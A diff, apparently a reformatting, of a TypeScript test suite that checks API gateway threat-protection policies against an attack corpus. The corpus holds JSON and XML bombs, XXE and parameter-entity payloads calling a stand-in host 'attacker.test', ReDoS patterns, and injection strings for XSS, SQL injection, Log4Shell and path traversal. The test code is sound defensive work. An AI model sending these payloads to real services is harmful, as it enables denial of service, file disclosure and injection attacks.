@@ -30,7 +30,13 @@ const json = (body: string): PolicyContextOptions => ({ method: 'POST', body, co
 const xml = (body: string): PolicyContextOptions => ({ method: 'POST', body, contentType: 'application/xml' });
 
 describe('attack corpus: JSON', () => {
-  const guard = step('JSONThreatProtection', { containerDepth: 20, arrayElementCount: 1000, objectEntryCount: 100, objectEntryNameLength: 64, stringValueLength: 4096 });
+  const guard = step('JSONThreatProtection', {
+    containerDepth: 20,
+    arrayElementCount: 1000,
+    objectEntryCount: 100,
+    objectEntryNameLength: 64,
+    stringValueLength: 4096,
+  });
   const unlimited = step('JSONThreatProtection', {});
 
   it('rejects a depth bomb at the limit, and scans one without limits iteratively', () => {
@@ -41,7 +47,9 @@ describe('attack corpus: JSON', () => {
 
   it('rejects width bombs', () => {
     expect(outcome(guard, json(`[${'0,'.repeat(1_000_000)}0]`))).toBe('threat.json.ArrayElementCountExceeded');
-    expect(outcome(guard, json(`{${Array.from({ length: 200_000 }, (_, i) => `"k${i}":0`).join(',')}}`))).toBe('threat.json.ObjectEntryCountExceeded');
+    expect(outcome(guard, json(`{${Array.from({ length: 200_000 }, (_, i) => `"k${i}":0`).join(',')}}`))).toBe(
+      'threat.json.ObjectEntryCountExceeded',
+    );
     expect(outcome(guard, json(`["${'x'.repeat(5_000_000)}"]`))).toBe('threat.json.StringValueLengthExceeded');
   });
 
@@ -50,7 +58,9 @@ describe('attack corpus: JSON', () => {
     expect(outcome(guard, json(poison))).toBe('pass'); // within limits: the scan builds nothing
     const extract = step('ExtractVariables', { jsonPayload: [{ name: 'p', jsonPath: '$.__proto__.polluted' }] });
     expect(outcome(extract, json(poison))).toBe('steps.extractvariables.JsonPathParsingFailure');
-    const regex = step('RegularExpressionProtection', { jsonPayload: [{ expression: '$..polluted', patterns: ['yes'] }] });
+    const regex = step('RegularExpressionProtection', {
+      jsonPayload: [{ expression: '$..polluted', patterns: ['yes'] }],
+    });
     expect(outcome(regex, json(poison))).toBe('steps.regexprotection.ExecutionFailed');
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
@@ -67,25 +77,40 @@ describe('attack corpus: XML', () => {
   const parameterEntity = '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.test/x.dtd"> %remote;]><d/>';
   const guard = step('XMLThreatProtection', {});
 
-  it.each([['billion laughs', billionLaughs], ['external entity (XXE)', xxe], ['parameter entity', parameterEntity]])('rejects %s without expanding anything', (_name, body) => {
+  it.each([
+    ['billion laughs', billionLaughs],
+    ['external entity (XXE)', xxe],
+    ['parameter entity', parameterEntity],
+  ])('rejects %s without expanding anything', (_name, body) => {
     expect(outcome(guard, xml(body))).toBe('threat.xml.DTDNotAllowed');
     const extract = step('ExtractVariables', { xmlPayload: { variables: [{ name: 'v', xPath: 'string(/*)' }] } });
     expect(outcome(extract, xml(body))).toBe('steps.extractvariables.ExecutionFailed');
-    const regex = step('RegularExpressionProtection', { xmlPayload: { xPaths: [{ expression: '/*', patterns: ['root:'] }] } });
+    const regex = step('RegularExpressionProtection', {
+      xmlPayload: { xPaths: [{ expression: '/*', patterns: ['root:'] }] },
+    });
     expect(outcome(regex, xml(body))).toBe('steps.regexprotection.ExecutionFailed');
   });
 
   it('bounds depth: the limit rejects it, and XPath never sees a deep document', () => {
     const deep = `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`;
-    expect(outcome(step('XMLThreatProtection', { structureLimits: { nodeDepth: 50 } }), xml(deep))).toBe('threat.xml.NodeDepthExceeded');
+    expect(outcome(step('XMLThreatProtection', { structureLimits: { nodeDepth: 50 } }), xml(deep))).toBe(
+      'threat.xml.NodeDepthExceeded',
+    );
     const extract = step('ExtractVariables', { xmlPayload: { variables: [{ name: 'v', xPath: 'count(//a)' }] } });
     expect(outcome(extract, xml(deep))).toBe('steps.extractvariables.ExecutionFailed');
   });
 
   it('rejects a wide element and a huge attribute at their limits', () => {
     const wide = `<a>${'<b/>'.repeat(200_000)}</a>`;
-    expect(outcome(step('XMLThreatProtection', { structureLimits: { childCount: 100 } }), xml(wide))).toBe('threat.xml.ChildCountExceeded');
-    expect(outcome(step('XMLThreatProtection', { valueLimits: { attribute: 1000 } }), xml(`<a b="${'x'.repeat(2_000_000)}"/>`))).toBe('threat.xml.AttributeValueLengthExceeded');
+    expect(outcome(step('XMLThreatProtection', { structureLimits: { childCount: 100 } }), xml(wide))).toBe(
+      'threat.xml.ChildCountExceeded',
+    );
+    expect(
+      outcome(
+        step('XMLThreatProtection', { valueLimits: { attribute: 1000 } }),
+        xml(`<a b="${'x'.repeat(2_000_000)}"/>`),
+      ),
+    ).toBe('threat.xml.AttributeValueLengthExceeded');
   });
 });
 
@@ -99,7 +124,10 @@ describe('attack corpus: catastrophic backtracking', () => {
     ['^(.*a){20}$', 'a'.repeat(100_000)],
     ['^(([a-z])+.)+[A-Z]([a-z])+$', `${'a'.repeat(100_000)}Ab`],
   ])('matches %s against a long input in linear time', (pattern, matching) => {
-    const regex = step('RegularExpressionProtection', { headers: [{ name: 'x-input', patterns: [pattern] }], queryParams: [{ name: 'q', patterns: [pattern] }] });
+    const regex = step('RegularExpressionProtection', {
+      headers: [{ name: 'x-input', patterns: [pattern] }],
+      queryParams: [{ name: 'q', patterns: [pattern] }],
+    });
     expect(outcome(regex, { headers: { 'x-input': evil }, query: `q=${evil}` })).toBe('pass');
     expect(outcome(regex, { headers: { 'x-input': matching } })).toBe('steps.regexprotection.ThreatDetected');
   });
@@ -112,11 +140,49 @@ describe('attack corpus: catastrophic backtracking', () => {
 
 // A compact sample in the spirit of the big-list-of-naughty-strings.
 const naughtyStrings = [
-  '', ' ', 'undefined', 'null', 'NaN', '0', '-1', '1e309', '__proto__', 'constructor', 'hasOwnProperty',
-  '\u0000', 'a\u0000b', '\u0007\u001b[31mred', '\t\r\n', '\uFEFFbom', '\u200B', '\u202Eevil\u202C', 'مرحبا', 'שָׁלוֹם',
-  '田中さんにあげて下さい', '👾 🙇 💁 🙅', '👨‍👩‍👧‍👦', '\uD800', '\uDFFF', 'Ω≈ç√∫', 'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳',
-  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' OR 1=1 --", '${jndi:ldap://x/a}', '{{7*7}}', '%00', '%',
-  '../../../../etc/passwd', '\\\\server\\share', 'Basic ', 'Basic Og==', '::', '1.2.3.4.5', '::ffff:', '[::1]', '999.1.1.1',
+  '',
+  ' ',
+  'undefined',
+  'null',
+  'NaN',
+  '0',
+  '-1',
+  '1e309',
+  '__proto__',
+  'constructor',
+  'hasOwnProperty',
+  '\u0000',
+  'a\u0000b',
+  '\u0007\u001b[31mred',
+  '\t\r\n',
+  '\uFEFFbom',
+  '\u200B',
+  '\u202Eevil\u202C',
+  'مرحبا',
+  'שָׁלוֹם',
+  '田中さんにあげて下さい',
+  '👾 🙇 💁 🙅',
+  '👨‍👩‍👧‍👦',
+  '\uD800',
+  '\uDFFF',
+  'Ω≈ç√∫',
+  'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "' OR 1=1 --",
+  '${jndi:ldap://x/a}',
+  '{{7*7}}',
+  '%00',
+  '%',
+  '../../../../etc/passwd',
+  '\\\\server\\share',
+  'Basic ',
+  'Basic Og==',
+  '::',
+  '1.2.3.4.5',
+  '::ffff:',
+  '[::1]',
+  '999.1.1.1',
 ];
 
 /** Percent-encodes; a lone surrogate (which encodeURIComponent refuses) becomes invalid UTF-8 escapes. */
@@ -130,15 +196,46 @@ function percentEncode(value: string): string {
 
 describe('attack corpus: naughty strings', () => {
   const policies: Array<[string, PolicyStep]> = [
-    ['RegularExpressionProtection', step('RegularExpressionProtection', {
-      uriPath: ['(?i)etc/passwd'], headers: [{ name: 'x-n', patterns: ['(?i)<script'] }], queryParams: [{ name: 'q', patterns: ["(?i)'\\s*or\\s"] }],
-      variables: [{ name: 'request.header.x-n', patterns: ['jndi'] }],
-    })],
-    ['ExtractVariables', step('ExtractVariables', { headers: [{ name: 'x-n', patterns: ['{a}:{b}'] }], queryParams: [{ name: 'q', patterns: ['{q}'] }], ignoreUnresolvedVariables: true })],
-    ['AccessControl', step('AccessControl', { validateBasedOn: 'XForwardedForAllIPs', rules: [{ action: 'Allow', sourceAddresses: ['0.0.0.0/0', '::/0'] }] })],
-    ['BasicAuthentication', step('BasicAuthentication', { operation: 'Decode', user: { ref: 'u' }, password: { ref: 'p' }, source: 'request.header.x-n' })],
+    [
+      'RegularExpressionProtection',
+      step('RegularExpressionProtection', {
+        uriPath: ['(?i)etc/passwd'],
+        headers: [{ name: 'x-n', patterns: ['(?i)<script'] }],
+        queryParams: [{ name: 'q', patterns: ["(?i)'\\s*or\\s"] }],
+        variables: [{ name: 'request.header.x-n', patterns: ['jndi'] }],
+      }),
+    ],
+    [
+      'ExtractVariables',
+      step('ExtractVariables', {
+        headers: [{ name: 'x-n', patterns: ['{a}:{b}'] }],
+        queryParams: [{ name: 'q', patterns: ['{q}'] }],
+        ignoreUnresolvedVariables: true,
+      }),
+    ],
+    [
+      'AccessControl',
+      step('AccessControl', {
+        validateBasedOn: 'XForwardedForAllIPs',
+        rules: [{ action: 'Allow', sourceAddresses: ['0.0.0.0/0', '::/0'] }],
+      }),
+    ],
+    [
+      'BasicAuthentication',
+      step('BasicAuthentication', {
+        operation: 'Decode',
+        user: { ref: 'u' },
+        password: { ref: 'p' },
+        source: 'request.header.x-n',
+      }),
+    ],
     ['CORS', step('CORS', { allowOrigins: ['https://*.example.com'] })],
-    ['AssignMessage', step('AssignMessage', { set: { headers: { 'x-echo': '{request.header.x-n}' }, queryParams: { q: '{request.header.x-n}' } } })],
+    [
+      'AssignMessage',
+      step('AssignMessage', {
+        set: { headers: { 'x-echo': '{request.header.x-n}' }, queryParams: { q: '{request.header.x-n}' } },
+      }),
+    ],
     ['VerifyAPIKey', step('VerifyAPIKey', { apiKey: { ref: 'request.header.x-n' } })],
   ];
 
@@ -148,18 +245,28 @@ describe('attack corpus: naughty strings', () => {
         method: 'OPTIONS',
         path: `/p/${percentEncode(value)}`,
         query: `q=${percentEncode(value)}`,
-        headers: { 'x-n': value, 'x-forwarded-for': value, origin: value, 'access-control-request-method': 'GET', 'x-api-key': value },
+        headers: {
+          'x-n': value,
+          'x-forwarded-for': value,
+          origin: value,
+          'access-control-request-method': 'GET',
+          'x-api-key': value,
+        },
       };
       expect(outcome(s, opts)).toMatch(/^(pass|respond \d+|[\w.-]+)$/);
     }
   });
 
   it('rejects the ones it is configured for', () => {
-    const [, regex] = policies[0];
-    expect(outcome(regex, { headers: { 'x-n': '<script>alert(1)</script>' } })).toBe('steps.regexprotection.ThreatDetected');
+    const [, regex] = policies[0]!;
+    expect(outcome(regex, { headers: { 'x-n': '<script>alert(1)</script>' } })).toBe(
+      'steps.regexprotection.ThreatDetected',
+    );
     expect(outcome(regex, { path: '/p/..%2F..%2Fetc%2Fpasswd' })).toBe('steps.regexprotection.ThreatDetected');
-    expect(outcome(regex, { query: `q=${encodeURIComponent("' OR 1=1 --")}` })).toBe('steps.regexprotection.ThreatDetected');
-    const [, xff] = policies[2];
+    expect(outcome(regex, { query: `q=${encodeURIComponent("' OR 1=1 --")}` })).toBe(
+      'steps.regexprotection.ThreatDetected',
+    );
+    const [, xff] = policies[2]!;
     expect(outcome(xff, { headers: { 'x-forwarded-for': '1.2.3.4.5' } })).toBe('accesscontrol.IPDeniedAccess');
   });
 
